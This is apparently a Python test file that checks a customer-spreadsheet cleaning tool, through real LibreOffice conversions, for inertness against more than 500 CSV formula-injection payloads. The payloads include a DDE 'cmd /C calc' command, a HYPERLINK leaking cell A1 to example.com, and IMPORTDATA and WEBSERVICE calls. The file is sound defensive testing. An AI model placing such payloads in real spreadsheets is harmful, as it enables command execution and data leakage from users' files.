"""Hostile and delicate texts through a whole run and a real LibreOffice: never calculated, never altered."""

import csv
import itertools
import json
import os
import re
import shutil
import subprocess
from zipfile import ZipFile

import openpyxl
import pytest

from custsheet import form, read
from custsheet.form import rules
from custsheet.schema import load_schema
from tests.conftest import AS_OF, csv_file

pytestmark = pytest.mark.skipif(
    not shutil.which("soffice") and not os.environ.get("CI"), reason="no LibreOffice to open the files with"
)
SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-", "+=", "-@", "''="]
BEFORE = ["", "\ufeff", "\u200b", " ", "'", '"', '","']
CALLS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com/?"&A1,"open")',
    'IMPORTDATA("http://example.com/x.csv")',
    'WEBSERVICE("http://example.com/")',
    'DDE("soffice";"x";"y")',
]
PAYLOADS = [before + sign + call for before, sign, call in itertools.product(BEFORE, SIGNS, CALLS)]
DELICATE = [
    "+8613900139000",
    "-5",
    "00123",
    "110105199003070018",
    "11010519491231002X",
    "1E10",
    "1-2",
    "TRUE",
    "1/2",
    "0.10",
]


def converted(folder, target, *paths):
    """Return what LibreOffice makes of files."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    out = folder / "again"
    command = ["soffice", "--headless", profile, "--convert-to", target, "--outdir", str(out), *map(str, paths)]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    return [out / f"{path.stem}.{target.partition(':')[0]}" for path in paths]


def formulas(path):
    """Return how many cells of a workbook hold a formula."""
    with ZipFile(path) as package:
        parts = [package.read(each) for each in package.namelist() if each.startswith("xl/worksheets/sheet")]
    return sum(len(re.findall(rb"<f[ >/]", part)) for part in parts)


def column(path, heading="暗号"):
    """Return a column of customers as custsheet reads it, line ends evened."""
    return read([path]).tables["customers"][heading].str.replace("\r\n|\r", "\n", regex=True).tolist()


def test_nothing_is_calculated(run, tmp_path):
    """Of more than five hundred payloads none is a formula: not in our workbooks, not after LibreOffice, not in CSV, not in the page."""
    assert len(set(PAYLOADS)) >= 500
    texts = enumerate([*PAYLOADS, *DELICATE])
    lines = [[f"客户{chr(0x4E00 + number)}", f"139{number:08d}", text] for number, text in texts]
    source = csv_file(tmp_path / "名单.csv", [["姓名", "手机", "暗号"], *lines], "utf-8-sig")
    done = run(source, as_of=AS_OF, merge="none")
    books = [done.out / name for name in ("cleaned.xlsx", "issues.xlsx", "review.xlsx")]
    assert [formulas(path) for path in books] == [0, 0, 0]
    again = converted(tmp_path, "xlsx", *books)
    assert [formulas(path) for path in again] == [0, 0, 0]
    assert column(again[0]) == column(books[0])
    _csv_is_inert(done.out / "cleaned" / "customers.csv", tmp_path)
    _page_is_inert((done.out / "issues.html").read_text(encoding="utf-8"))
    assert column(again[0])[-len(DELICATE) :] == DELICATE


def _csv_is_inert(path, folder):
    """LibreOffice makes no formula of our CSV, and our own reader gives every text back."""
    (book,) = converted(folder, "xlsx", path)
    assert formulas(book) == 0
    with path.open(encoding="utf-8-sig", newline="") as file:
        shown = [line["暗号"] for line in csv.DictReader(file)]
    assert not [each for each in shown if re.match(r"[=@\t\r＝＠]", each)]
    assert column(path)[-len(DELICATE) :] == DELICATE


def _page_is_inert(text):
    """The page's content is one JSON text; what cells say makes no element."""
    assert text.count("<script") == 2 and "<a href" not in text.split('id="content"')[1]
    json.loads(re.search(r'id="content">(.*?)</script>', text, re.S)[1])


def test_form_through_libreoffice(tmp_path):
    """A form saved by LibreOffice, as .xlsx or .ods, is still a form: same fields, same texts, example and lists left out."""
    path = tmp_path / "form.xlsx"
    form.make(load_schema(), "customers", path, rows=20)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    at = {cell.value: cell.column for cell in sheet[1]}
    for row, text in enumerate(DELICATE, 5):
        sheet.cell(row, at["name"], "陈一诺")
        sheet.cell(row, at["note"], text)
    book.save(path)
    for target in ("xlsx", "ods"):
        (again,) = converted(tmp_path, target, path)
        found = read([again])
        assert list(found.tables) == ["customers"], target
        assert found.tables["customers"]["note"].tolist() == DELICATE, target
        assert (found.lineage["reason"] == "example").sum() == 1


TYPED = {
    "phone": {"13800138000": True, "138 0013 8000": True, "021-58881234": True, "+1 202 555 0100": True, "12345": False}
    | {"1380013800": False, "4008208820": True, "abc": False, "58881234": True},
    "resident_id": {
        "11010519491231002X": True,
        "110105199003070018": True,
        "1101051990": False,
        "护照E12345678": False,
    },
    "email": {"a@example.com": True, "a@": False, "example.com": False, "a b@example.com": False, "a@b.": False},
    "postcode": {"001234": True, "12345": False, "1234567": False, "12a456": False},
    "qq": {"10001000": True, "12": False},
    "bankcard": {"6222 0000 0000 0000": True, "62220000": False},
    "uscc": {"91310000MA1K000000": True, "123": False},
}


def test_rules_mean_the_same(tmp_path):
    """A workbook's formula and the page's pattern give the same answer; dependent lists are found by name (in LibreOffice)."""
    path = tmp_path / "form.xlsx"
    form.make(load_schema(), "customers", path, rows=2)
    book = openpyxl.load_workbook(path)
    sheet = book.create_sheet("asked", 0)
    cases = [(kind, text, good) for kind, each in TYPED.items() for text, good in each.items()]
    for row, (kind, text, _) in enumerate(cases, 1):
        sheet.cell(row, 1, text).number_format = "@"
        sheet.cell(row, 2, f'=IF(IFERROR({rules.RULES[kind].formula.format(c=f"A{row}")},FALSE),"yes","no")')
    row = len(cases) + 1
    for name in ("cs_", "cs_江苏省", "cs_江苏省_南京市", "cs_河南省_"):
        sheet.cell(row, 1, name)
        sheet.cell(row, 2, f"=COUNTA(INDIRECT(A{row}))")
        row += 1
    book.active = 0
    book.save(path)
    (told,) = converted(tmp_path, "csv:Text - txt - csv (StarCalc):44,34,76", path)
    with told.open(encoding="utf-8", newline="") as file:
        answers = [line[1] for line in csv.reader(file)]
    said = dict(zip([each[:2] for each in cases], [each == "yes" for each in answers], strict=False))
    assert said == {(kind, text): good for kind, text, good in cases}
    assert answers[len(cases) :][:1] == ["34"] and [int(each) > 0 for each in answers[len(cases) :]] == [True] * 4
    for kind, text, good in cases:
        bare = text if kind == "email" else re.sub("[ -]", "", text)
        assert bool(re.fullmatch(rules.RULES[kind].pattern, bare)) == good, (kind, text)
